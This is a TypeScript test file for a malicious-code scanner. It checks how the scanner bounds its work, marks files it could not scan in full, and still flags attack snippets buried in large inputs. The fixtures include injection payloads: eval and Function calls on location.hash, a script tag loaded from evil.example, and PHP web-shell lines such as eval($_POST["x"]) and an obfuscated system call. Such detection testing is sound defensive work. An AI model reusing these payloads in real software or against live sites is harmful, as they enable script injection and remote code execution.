import assert from 'node:assert/strict';
import { createScan, type ScanResult } from '../../../domain/scan/scan.js';

const MIB = 1024 * 1024;

const manyNames = {
  'numbers one by one': repeated(10_001, (i) => `let a${i}=1;`),
  'numbers side by side': `let ${repeated(10_001, (i) => `a${i}=1,`)}z;`,
  'texts one by one': repeated(12_000, (i) => `let a${i}='x';`),
  'decoded texts': repeated(10_001, (i) => `var a${i}=atob('eA');`),
  properties: `var o={};${repeated(12_000, (i) => `o.a${i}='x';`)}`,
  // More than are kept: what is too far away to count makes room.
  'more numbers than are kept': repeated(70_000, (i) => `a${i}=1;`),
};

/** Each is flagged where it stands alone. */
const attacks = [
  'var F=Function;\nF(location.hash.slice(1))();',
  "w=window;w['ev'+x](location.hash);",
  'var s=location.hash.slice(1);\nsetTimeout(s,1);',
  "var h='<scr'+'ipt src=//evil.example/a.js></scr'+'ipt>';\ndocument.write(h);",
  'var G=Object.getPrototypeOf(async function(){}).constructor;\nG(t)();',
  'var q=atob(x);\neval(q);',
  'var o={key:"ev"};\nwindow[o.key+"al"](x);',
];

const beyond = {
  'texts that are put together': "a='x.'+a;".repeat(40_000),
  'a long text that is asked for again and again': `a='${'/a.b'.repeat(60)}';${'b[a];'.repeat(20_000)}`,
  'markup that is written again and again': `a='${'<a '.repeat(80)}';${'html(a);'.repeat(2_000)}`,
  'fields that hold texts': repeated(33_000, (i) => `a${i}='x';`),
  properties: `var o={};${repeated(33_000, (i) => `o.a${i}='x';`)}`,
  'functions that are given what others decide': repeated(16_400, (i) => `fun${i}(location);`),
  brackets: `a=${'['.repeat(2_100)}${']'.repeat(2_100)};`,
  'addresses that are put together': "'http://1.'+'2.3.4';".repeat(6_000),
};

describe('bound on the scan', () => {
  it('lies far above what an honest package unpacks to (decisions §5)', () => {
    const scan = createScan(4 * MIB);
    for (let i = 0; i < 30; i++) scan.file(`lib/${i}.bin`, new Uint8Array(MIB));
    assert.equal(scan.result().flags_by_rule.not_scanned, 0);
  });

  it('says which files were not scanned in full, and still reads where they begin (decisions §5, not_scanned)', () => {
    const scan = createScan(MIB);
    scan.file('a.txt', new Uint8Array(100 * MIB).fill(0x20));
    for (let i = 0; i < 10; i++) scan.file(`b${i}.txt`, new Uint8Array(20 * MIB).fill(0x20));
    const late = Buffer.alloc(8 * MIB, 0x20);
    late.write('<?php eval($_POST["x"]);');
    scan.file('z.php', late);
    const { flags, flags_by_rule } = scan.result();
    assert.ok(flags_by_rule.not_scanned >= 3);
    const here = flags.filter(({ file }) => file === 'z.php').map(({ rule }) => rule);
    assert.deepEqual(here.toSorted(), ['eval', 'not_scanned']);
  });

  it('leaves room for small files behind a large one (decisions §5)', () => {
    const scan = createScan(MIB);
    scan.file('a.txt', new Uint8Array(100 * MIB).fill(0x20));
    scan.file('b.php', Buffer.concat([Buffer.alloc(MIB, '<?php $a = 1; ?>'), Buffer.from('<?php eval($x);')]));
    const here = scan.result().flags.filter(({ file }) => file === 'b.php');
    assert.deepEqual(
      here.map(({ rule }) => rule),
      ['eval'],
    );
  });

  it('names a file whose values took more work than it is worth, and still flags what is called there (decisions §5)', () => {
    const scan = createScan();
    const code = `$a = array_map('strrev', ['a', 'b', 'c', $a]);`.repeat(20_000);
    scan.file('a.php', Buffer.from(`<?php ${code} $f = strrev('metsys'); $f('id'); ('sys' . $x)('id');`));
    const { flags_by_rule } = scan.result();
    assert.equal(flags_by_rule.not_scanned, 1);
    assert.ok(flags_by_rule.obfuscated >= 2);
  });

  it('names a file that is nested deeper than PHP reads (decisions §5)', () => {
    const scan = createScan();
    scan.file('a.php', Buffer.from(`<?php ${'['.repeat(10_100)}`));
    assert.equal(scan.result().flags_by_rule.not_scanned, 1);
  });

  it('says so of what it reads with short tags off, too (decisions §5, not_scanned)', () => {
    const scan = createScan();
    scan.file('a.php', Buffer.from(`<? /* ?>\n<?php ${'['.repeat(10_100)}`));
    assert.equal(scan.result().flags_by_rule.not_scanned, 1);
  });

  for (const [what, names] of Object.entries(manyNames)) {
    it(`follows a script past many names: ${what} (decisions §5)`, () => {
      const { flags } = scanned('a.js', `${names}\n${attacks.join('\n\n')}`);
      const lines = flags.map(({ line }) => line);
      let line = 2;
      for (const code of attacks) {
        const end = line + code.split('\n').length;
        assert.ok(
          lines.some((at) => at >= line && at < end),
          `${code} is not flagged`,
        );
        line = end + 1;
      }
    });
  }

  it('says nothing of a script that has no more names than it can follow (decisions §5, not_scanned)', () => {
    for (const names of Object.values(manyNames)) assert.equal(notScanned('a.js', names), 0);
  });

  for (const [what, code] of Object.entries(beyond)) {
    it(`names a script of which not everything was followed: ${what} (decisions §5, not_scanned)`, () => {
      assert.equal(notScanned('a.js', code), 1);
    });
  }

  it('takes the scripts of a page together (decisions §5, not_scanned)', () => {
    const script = `a='${'<a '.repeat(80)}';${'html(a);'.repeat(5)}`;
    assert.equal(notScanned('a.html', `<script>${script}</script>`.repeat(100)), 1);
    assert.equal(notScanned('a.html', `<a onclick="${script.replaceAll('<', '&lt;')}">`.repeat(100)), 1);
    assert.equal(notScanned('a.html', `<script>${script}</script>`), 0);
  });

  it('names a file with more functions than it can follow (decisions §5, not_scanned)', () => {
    const one = (i: number) => `function f${i}(){return 'a';}`;
    assert.equal(notScanned('a.php', `<?php ${repeated(10_001, one)}`), 1);
    assert.equal(notScanned('a.php', `<?php ${repeated(9_000, one)}`), 0);
  });
});

function repeated(times: number, one: (i: number) => string): string {
  return Array.from({ length: times }, (_, i) => one(i)).join('');
}

function notScanned(path: string, code: string): number {
  return scanned(path, code).flags_by_rule.not_scanned;
}

function scanned(path: string, code: string): ScanResult {
  const scan = createScan();
  scan.file(path, Buffer.from(code));
  return scan.result();
}
